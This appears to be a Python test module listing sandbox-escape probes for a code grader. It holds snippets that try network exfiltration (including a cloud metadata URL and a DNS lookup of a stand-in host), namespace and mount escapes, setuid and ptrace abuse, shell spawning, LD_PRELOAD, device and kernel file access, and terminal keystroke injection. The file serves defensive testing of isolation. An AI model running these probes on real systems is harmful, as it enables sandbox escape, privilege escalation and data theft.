# ruff: noqa: E501 (a row of a table)
"""Escapes: the network, other processes, the kernel's interfaces."""

from attack import Attack, harmless


def calling(name: str, tries: str, *calls: str) -> Attack:
    """Return an attack by system calls, each an expression that is not negative when it got through."""
    lines = "\n".join(f"if {call} >= 0: reached({call!r})" for call in calls)
    return Attack(name, tries, f"import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n{lines}\n")


ATTACKS = [
    Attack(
        "TCP",
        "sends the inputs to a server",
        """
import socket
for host in ("127.0.0.1", "::1", "localhost", "0.0.0.0"):
    try: socket.create_connection((host, T["tcp"]), timeout=1); reached(host)
    except (OSError, LookupError): pass
""",
    ),
    Attack(
        "UDP",
        "sends a datagram",
        """
import socket
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", T["udp"])); print("sent")
except (OSError, LookupError): pass
""",
    ),
    Attack(
        "unix",
        "speaks to a service by its file and its abstract name",
        """
import socket
for name in T["unix"]:
    try: socket.socket(socket.AF_UNIX).connect(name); reached(name)
    except (OSError, LookupError): pass
""",
    ),
    Attack(
        "abstract names",
        "listens under a name for the next student to speak to",
        """
import socket
try: s = socket.socket(socket.AF_UNIX); s.bind("\\0" + T["token"]); s.listen()
except (OSError, LookupError): pass
""",
        second="""
import socket
try: socket.socket(socket.AF_UNIX).connect("\\0" + T["token"]); reached("the exercise before")
except (OSError, LookupError): pass
""",
    ),
    Attack(
        "netlink",
        "asks the kernel for the machine's addresses",
        """
import socket
for family, kind in ((16, 3), (17, 3), (40, 1), (38, 5), (1, 2)):
    try: s = socket.socket(family, kind); s.bind((0, 0)) if family == 16 else None; print(family, "opened")
    except (OSError, TypeError): pass
""",
    ),
    Attack(
        "urllib",
        "asks a server of the outside",
        """
import urllib.request
for url in (f"http://127.0.0.1:{T['tcp']}/", "http://169.254.169.254/latest/meta-data/", "file://" + T["files"][0]):
    try: reached(urllib.request.urlopen(url, timeout=1).read(1000))
    except (OSError, LookupError, ImportError): pass
""",
    ),
    Attack(
        "names",
        "asks for a name that carries the answer",
        """
import socket
try: socket.getaddrinfo("secret.example.org", 80); reached("names")
except (OSError, LookupError): pass
""",
    ),
    calling(
        "user namespace", "becomes root in a world of its own", "libc.unshare(0x10000000)", "libc.unshare(0x10020000)"
    ),
    calling(
        "namespaces", "leaves its namespaces", "libc.unshare(0x20000)", "libc.unshare(0x40000000)", "libc.setns(0, 0)"
    ),
    calling(
        "mount",
        "mounts over what it sees",
        "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)",
        "libc.mount(b'/', b'/tmp', None, 4096, None)",
        "libc.umount2(b'/tmp', 2)",
        "libc.umount2(b'/', 2)",
    ),
    calling(
        "new mounts",
        "mounts by the newer calls",
        "libc.syscall(430, b'tmpfs', 0)",
        "libc.syscall(428, -100, b'/', 1)",
        "libc.syscall(442, -100, b'/', 0, 0, 0)",
    ),
    calling("chroot", "changes its root to get out of it", "libc.chroot(b'/tmp')", "libc.pivot_root(b'/tmp', b'/tmp')"),
    calling(
        "root",
        "becomes root, or another student",
        "libc.setuid(0)",
        "libc.setreuid(0, 0)",
        "libc.setresuid(-1, 0, -1)",
        "libc.setgid(0)",
        "libc.setgroups(1, (ctypes.c_uint * 1)(0))",
    ),
    calling(
        "capabilities",
        "takes its rights back",
        "libc.prctl(47, 2, 21, 0, 0)",
        "libc.prctl(23, 21) - 1",
        "libc.prctl(28, 0x1)",
        "libc.syscall(126, (ctypes.c_uint * 2)(0x20080522, 0), (ctypes.c_uint * 6)(1, 1, 1))",
    ),
    calling(
        "ptrace",
        "controls other processes",
        "libc.ptrace(16, T['pids'][0], 0, 0)",
        "libc.ptrace(16, os.getppid(), 0, 0)",
        "libc.ptrace(0x4206, T['pids'][-1], 0, 0)",
    ),
    calling(
        "memory of others",
        "reads and writes the memory of others",
        "libc.process_vm_readv(T['pids'][0], 0, 0, 0, 0, 0)",
        "libc.process_vm_writev(T['pids'][0], 0, 0, 0, 0, 0)",
    ),
    calling(
        "pidfd",
        "takes the open files of others",
        "libc.syscall(434, T['pids'][0], 0)",
        "libc.syscall(434, os.getppid(), 0)",
        "libc.syscall(438, 3, 0, 0)",
    ),
    calling(
        "keys",
        "reads the keys of the kernel",
        "libc.syscall(250, 0, -3, 1)",
        "libc.syscall(248, b'user', b'x', b'y', 1, -3)",
    ),
    calling(
        "bpf",
        "loads a program into the kernel",
        "libc.syscall(321, 5, ctypes.create_string_buffer(200), 200)",
        "libc.syscall(298, ctypes.create_string_buffer(200), 0, -1, -1, 0)",
    ),
    calling("io_uring", "makes calls that no filter sees", "libc.syscall(425, 8, ctypes.create_string_buffer(200))"),
    calling("userfaultfd", "holds the kernel while it copies", "libc.syscall(323, 0)"),
    calling(
        "handles",
        "opens files by their numbers, past all folders",
        "libc.syscall(304, -100, ctypes.create_string_buffer(b'\\x08' + bytes(40)), 0)",
    ),
    calling(
        "clock and host",
        "sets the clock and the name of the machine",
        "libc.sethostname(b'x', 1)",
        "libc.clock_settime(0, ctypes.create_string_buffer(16))",
        "libc.syscall(169, 0xfee1dead, 672274793, 0, 0)",
    ),
    calling("filter off", "takes the filter back", "libc.prctl(22, 0, 0)", "libc.prctl(38, 0, 0, 0, 0)"),
    Attack(
        "shell",
        "starts a shell by every way to start a program",
        """
import os, ctypes
libc = ctypes.CDLL(None, use_errno=True)
argv = (ctypes.c_char_p * 4)(b"sh", b"-c", b"echo REACHED", None)
libc.execve(b"/bin/sh", argv, None); libc.execve(b"/usr/bin/env", argv, None)
libc.syscall(322, -100, b"/bin/sh", argv, None, 0)
for program in ("/bin/sh", "/lib64/ld-linux-x86-64.so.2"):
    try: os.execv(program, [program, "-c", "echo REACHED"])
    except (OSError, LookupError): pass
""",
    ),
    Attack(
        "memfd",
        "runs a program that is in no folder",
        """
import os
fd = os.memfd_create("x")
reached("memfd")
""",
        "failed",
        "PermissionError",
    ),
    Attack(
        "preload",
        "puts code before a program's own",
        """
import os
os.environ["LD_PRELOAD"] = "/tmp/x.so"
os.execve(os.path.realpath("/proc/self/exe"), ["x"], os.environ)
""",
        "failed",
        "FileNotFoundError|PermissionError",
    ),
    Attack(
        "devices",
        "reads memory and disks by their devices",
        """
import os
for name in ("mem", "kmem", "port", "vda", "sda", "kvm", "fuse", "net/tun", "tty", "console", "kmsg", "ptmx", "loop0"):
    try: os.open("/dev/" + name, os.O_RDONLY); reached(name)
    except (OSError, LookupError): pass
    try: os.mknod("/tmp/" + name.replace("/", ""), 0o20666, os.makedev(1, 1)); reached("mknod")
    except (OSError, LookupError): pass
""",
    ),
    Attack(
        "cgroup",
        "changes its limits by the kernel's files",
        """
import os
for path in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory.max", "/proc/sys/kernel/core_pattern",
             "/proc/self/oom_score_adj", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"):
    for mode in ("r", "w"):
        try: open(path, mode); reached(path)
        except (OSError, LookupError): pass
""",
    ),
    Attack(
        "terminal",
        "types into the terminal of who started the grader",
        """
import fcntl
for fd in range(5):
    try: fcntl.ioctl(fd, 0x5412, b"x"); reached(fd)
    except (OSError, LookupError): pass
""",
    ),
    Attack(
        "setuid file",
        "makes a program that runs as its owner",
        """
import os
try:
    open("/tmp/s", "w").close(); os.chmod("/tmp/s", 0o4755); os.execv("/tmp/s", ["s"])
except (OSError, LookupError): pass
""",
    ),
    Attack(
        "locks",
        "locks the files of the libraries, for others to wait",
        """
import fcntl, torch, numpy
file = open(numpy.__file__)
fcntl.flock(file, fcntl.LOCK_SH | fcntl.LOCK_NB)
""",
        "failed|passed",
        "zero everywhere|raised",
    ),
    harmless(
        "mmap of libraries",
        "changes the pages of a library that all share",
        """
import mmap, numpy
with open(numpy.__file__, "rb") as file:
    try: page = mmap.mmap(file.fileno(), 0, flags=mmap.MAP_SHARED, prot=mmap.PROT_WRITE | mmap.PROT_READ); reached("page")
    except (OSError, ValueError): pass
""",
    ),
]
